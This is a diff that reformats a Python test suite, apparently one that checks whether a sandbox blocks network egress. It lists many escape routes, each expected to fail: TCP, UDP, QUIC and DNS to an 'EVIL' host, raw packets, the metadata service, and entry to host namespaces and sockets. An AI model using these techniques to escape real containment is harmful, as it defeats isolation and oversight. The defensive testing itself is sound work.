@@ -70,7 +70,13 @@ def resolve(token):
 
 def quic(token):
     """The first packet of QUIC version 1, as long as it has to be."""
-    packet = bytes([0xC0, 0, 0, 0, 1, 8]) + os.urandom(8) + b"\0\0" + struct.pack("!H", 0x44B0) + token.encode()
+    packet = (
+        bytes([0xC0, 0, 0, 0, 1, 8])
+        + os.urandom(8)
+        + b"\0\0"
+        + struct.pack("!H", 0x44B0)
+        + token.encode()
+    )
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
         stream.sendto(packet.ljust(1200, b"\0"), (addresses.EVIL, 443))
         stream.recv(65536)
@@ -96,7 +102,19 @@ def datagram(token):
     payload = token.encode()
     udp = struct.pack("!4H", 4242, 443, 8 + len(payload), 0) + payload
     source, destination = socket.inet_aton(addresses.HOST), socket.inet_aton(addresses.EVIL)
-    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, socket.IPPROTO_UDP, 0, source, destination)
+    head = struct.pack(
+        "!BBHHHBBH4s4s",
+        0x45,
+        0,
+        20 + len(udp),
+        1,
+        0,
+        64,
+        socket.IPPROTO_UDP,
+        0,
+        source,
+        destination,
+    )
     return head[:10] + checksum(head) + head[12:] + udp
 
 
@@ -130,7 +148,9 @@ def frame(token):
         if not names:
             raise Denied("ENODEV")
         # The way to the world, where there is one.
-        stream.sendto(datagram(token), ("host" if "host" in names else names[0], ETH_P_IP, 0, 0, b"\xff" * 6))
+        stream.sendto(
+            datagram(token), ("host" if "host" in names else names[0], ETH_P_IP, 0, 0, b"\xff" * 6)
+        )
     return THROUGH
 
 
@@ -162,7 +182,10 @@ def new_interface(kind):
 def new_route():
     """RTM_NEWROUTE: addresses that nobody has, through whichever interface is the first."""
     route = struct.pack("=8BI", socket.AF_INET, 24, 0, 0, 254, 4, 253, 1, 0)
-    return netlink(24, route + attribute(1, socket.inet_aton("11.22.44.0")) + attribute(4, struct.pack("=i", 1)))
+    return netlink(
+        24,
+        route + attribute(1, socket.inet_aton("11.22.44.0")) + attribute(4, struct.pack("=i", 1)),
+    )
 
 
 def tunnel_device(_token):
@@ -204,56 +227,170 @@ def virtual_machine_socket(_token):
 HOST_SOCKET, HOST_PROCESS = os.environ.get("HOST_SOCKET", ""), os.environ.get("HOST_PROCESS", "")
 
 ATTEMPTS = [
-    Attempt("direct-http", "connect to a server without asking the proxy", tcp(addresses.EVIL, 80), NO_WAY),
-    Attempt("direct-https", "speak TLS to a server without asking the proxy",
-            tcp(addresses.EVIL, 443, fetch_over_tls), NO_WAY),
-    Attempt("direct-allowed", "connect to an allowed server without asking the proxy", tcp(addresses.GOOD, 80), NO_WAY),
+    Attempt(
+        "direct-http",
+        "connect to a server without asking the proxy",
+        tcp(addresses.EVIL, 80),
+        NO_WAY,
+    ),
+    Attempt(
+        "direct-https",
+        "speak TLS to a server without asking the proxy",
+        tcp(addresses.EVIL, 443, fetch_over_tls),
+        NO_WAY,
+    ),
+    Attempt(
+        "direct-allowed",
+        "connect to an allowed server without asking the proxy",
+        tcp(addresses.GOOD, 80),
+        NO_WAY,
+    ),
     Attempt("direct-ssh", "connect to port 22", tcp(addresses.EVIL, 22, wire.talk), NO_WAY),
     Attempt("direct-smtp", "connect to port 25", tcp(addresses.EVIL, 25, wire.talk), NO_WAY),
     Attempt("direct-ftp", "connect to port 21", tcp(addresses.EVIL, 21, wire.talk), NO_WAY),
     Attempt("direct-ipv6", "connect over IPv6", tcp(addresses.EVIL6, 80), NO_WAY, needs="ipv6"),
-    Attempt("direct-mapped", "connect to an IPv4 address in the clothes of IPv6", tcp(f"::ffff:{addresses.EVIL}", 80),
-            NO_WAY, needs="ipv6"),
-    Attempt("direct-fast-open", "send data with the first packet of a connection", fast_open, NO_WAY),
+    Attempt(
+        "direct-mapped",
+        "connect to an IPv4 address in the clothes of IPv6",
+        tcp(f"::ffff:{addresses.EVIL}", 80),
+        NO_WAY,
+        needs="ipv6",
+    ),
+    Attempt(
+        "direct-fast-open", "send data with the first packet of a connection", fast_open, NO_WAY
+    ),
     Attempt("direct-multipath", "connect with Multipath TCP", multipath, f"{NO_WAY}|{NOT_ALLOWED}"),
-    Attempt("direct-private", "connect to a private address", tcp(addresses.PRIVATE[0], 80), NO_WAY),
-    Attempt("direct-unique-local", "connect to a unique local address", tcp(addresses.UNIQUE_LOCAL, 80), NO_WAY,
-            needs="ipv6"),
-    Attempt("direct-metadata", "connect to the metadata service", tcp(addresses.METADATA, 80), NO_WAY),
-    Attempt("direct-metadata-ipv6", "connect to the metadata service over IPv6", tcp(addresses.METADATA6, 80), NO_WAY,
-            needs="ipv6"),
-    Attempt("direct-gateway", "connect to the host at its own address", tcp(addresses.HOST, 80), NO_WAY),
-    Attempt("direct-loopback", "connect to the host's loopback address", tcp("127.0.0.1", 80), "ECONNREFUSED"),
-    Attempt("direct-loopback-ipv6", "connect to the host's IPv6 loopback address", tcp("::1", 80),
-            f"ECONNREFUSED|{NO_WAY}", needs="ipv6"),
-    Attempt("direct-unspecified", "connect to no address, which is the host's own", tcp("0.0.0.0", 80),
-            f"ECONNREFUSED|{NO_WAY}"),
+    Attempt(
+        "direct-private", "connect to a private address", tcp(addresses.PRIVATE[0], 80), NO_WAY
+    ),
+    Attempt(
+        "direct-unique-local",
+        "connect to a unique local address",
+        tcp(addresses.UNIQUE_LOCAL, 80),
+        NO_WAY,
+        needs="ipv6",
+    ),
+    Attempt(
+        "direct-metadata", "connect to the metadata service", tcp(addresses.METADATA, 80), NO_WAY
+    ),
+    Attempt(
+        "direct-metadata-ipv6",
+        "connect to the metadata service over IPv6",
+        tcp(addresses.METADATA6, 80),
+        NO_WAY,
+        needs="ipv6",
+    ),
+    Attempt(
+        "direct-gateway", "connect to the host at its own address", tcp(addresses.HOST, 80), NO_WAY
+    ),
+    Attempt(
+        "direct-loopback",
+        "connect to the host's loopback address",
+        tcp("127.0.0.1", 80),
+        "ECONNREFUSED",
+    ),
+    Attempt(
+        "direct-loopback-ipv6",
+        "connect to the host's IPv6 loopback address",
+        tcp("::1", 80),
+        f"ECONNREFUSED|{NO_WAY}",
+        needs="ipv6",
+    ),
+    Attempt(
+        "direct-unspecified",
+        "connect to no address, which is the host's own",
+        tcp("0.0.0.0", 80),
+        f"ECONNREFUSED|{NO_WAY}",
+    ),
     Attempt("udp", "send a datagram", udp(addresses.EVIL, 443), NO_WAY),
-    Attempt("udp-ipv6", "send a datagram over IPv6", udp(addresses.EVIL6, 443), NO_WAY, needs="ipv6"),
+    Attempt(
+        "udp-ipv6", "send a datagram over IPv6", udp(addresses.EVIL6, 443), NO_WAY, needs="ipv6"
+    ),
     Attempt("quic", "begin a QUIC connection", quic, NO_WAY),
     Attempt("dns-udp", "ask a name server", udp(addresses.RESOLVER, 53), NO_WAY),
-    Attempt("dns-udp-ipv6", "ask a name server over IPv6", udp(addresses.RESOLVER6, 53), NO_WAY, needs="ipv6"),
-    Attempt("dns-elsewhere", "ask a name server that nobody configured", udp(addresses.EVIL, 53), NO_WAY),
-    Attempt("dns-tcp", "ask a name server over TCP", tcp(addresses.RESOLVER, 53, ask_in_a_stream), NO_WAY),
-    Attempt("dns-tls", "ask a name server over TLS", tcp(addresses.RESOLVER, 853, ask_over_tls), NO_WAY),
-    Attempt("dns-https", "ask a name server over HTTPS", tcp(addresses.RESOLVER, 443, ask_over_https), NO_WAY),
-    Attempt("dns-system", "have the system resolve a name", resolve,
-            "EAI_AGAIN|EAI_NONAME|EAI_FAIL|EAI_SYSTEM|EAI_NODATA"),
+    Attempt(
+        "dns-udp-ipv6",
+        "ask a name server over IPv6",
+        udp(addresses.RESOLVER6, 53),
+        NO_WAY,
+        needs="ipv6",
+    ),
+    Attempt(
+        "dns-elsewhere", "ask a name server that nobody configured", udp(addresses.EVIL, 53), NO_WAY
+    ),
+    Attempt(
+        "dns-tcp",
+        "ask a name server over TCP",
+        tcp(addresses.RESOLVER, 53, ask_in_a_stream),
+        NO_WAY,
+    ),
+    Attempt(
+        "dns-tls", "ask a name server over TLS", tcp(addresses.RESOLVER, 853, ask_over_tls), NO_WAY
+    ),
+    Attempt(
+        "dns-https",
+        "ask a name server over HTTPS",
+        tcp(addresses.RESOLVER, 443, ask_over_https),
+        NO_WAY,
+    ),
+    Attempt(
+        "dns-system",
+        "have the system resolve a name",
+        resolve,
+        "EAI_AGAIN|EAI_NONAME|EAI_FAIL|EAI_SYSTEM|EAI_NODATA",
+    ),
     Attempt("raw-ip", "send a packet made by hand", raw_ip, f"{NO_WAY}|{NOT_ALLOWED}"),
-    Attempt("raw-icmp", "send an echo request through a raw socket", echo_request(socket.SOCK_RAW),
-            f"{NO_WAY}|{NOT_ALLOWED}", nowhere=""),
+    Attempt(
+        "raw-icmp",
+        "send an echo request through a raw socket",
+        echo_request(socket.SOCK_RAW),
+        f"{NO_WAY}|{NOT_ALLOWED}",
+        nowhere="",
+    ),
     Attempt("raw-frame", "send a frame to a network card", frame, f"ENODEV|{NOT_ALLOWED}"),
-    Attempt("new-interface", "make a network interface", new_interface(b"veth"), NOT_ALLOWED, nowhere=""),
-    Attempt("new-bridge", "make a bridge", new_interface(b"bridge"), f"{NOT_ALLOWED}|EOPNOTSUPP", nowhere=""),
+    Attempt(
+        "new-interface", "make a network interface", new_interface(b"veth"), NOT_ALLOWED, nowhere=""
+    ),
+    Attempt(
+        "new-bridge",
+        "make a bridge",
+        new_interface(b"bridge"),
+        f"{NOT_ALLOWED}|EOPNOTSUPP",
+        nowhere="",
+    ),
     Attempt("new-route", "add a route", new_route(), NOT_ALLOWED, nowhere=""),
     Attempt("tunnel-device", "make a tunnel device", tunnel_device, NOT_THERE, nowhere=""),
-    Attempt("enter-host", "enter the network of a process of the host",
-            enter_network_of(f"/proc/{HOST_PROCESS}/ns/net"), NOT_THERE, nowhere=""),
-    Attempt("enter-parent", "enter the network of the parent", enter_network_of(f"/proc/{os.getppid()}/ns/net"),
-            NOT_THERE, nowhere=""),
-    Attempt("virtual-machine-socket", "make a socket to the virtual machine's host", virtual_machine_socket,
-            NOT_ALLOWED, nowhere=""),
-    Attempt("abstract-socket", "connect to an abstract Unix socket of the host",
-            unix_socket(addresses.ABSTRACT_SOCKET), NOT_THERE),
-    Attempt("socket-file", "connect to a Unix socket of the host by its path", unix_socket(HOST_SOCKET), NOT_THERE),
+    Attempt(
+        "enter-host",
+        "enter the network of a process of the host",
+        enter_network_of(f"/proc/{HOST_PROCESS}/ns/net"),
+        NOT_THERE,
+        nowhere="",
+    ),
+    Attempt(
+        "enter-parent",
+        "enter the network of the parent",
+        enter_network_of(f"/proc/{os.getppid()}/ns/net"),
+        NOT_THERE,
+        nowhere="",
+    ),
+    Attempt(
+        "virtual-machine-socket",
+        "make a socket to the virtual machine's host",
+        virtual_machine_socket,
+        NOT_ALLOWED,
+        nowhere="",
+    ),
+    Attempt(
+        "abstract-socket",
+        "connect to an abstract Unix socket of the host",
+        unix_socket(addresses.ABSTRACT_SOCKET),
+        NOT_THERE,
+    ),
+    Attempt(
+        "socket-file",
+        "connect to a Unix socket of the host by its path",
+        unix_socket(HOST_SOCKET),
+        NOT_THERE,
+    ),
 ]
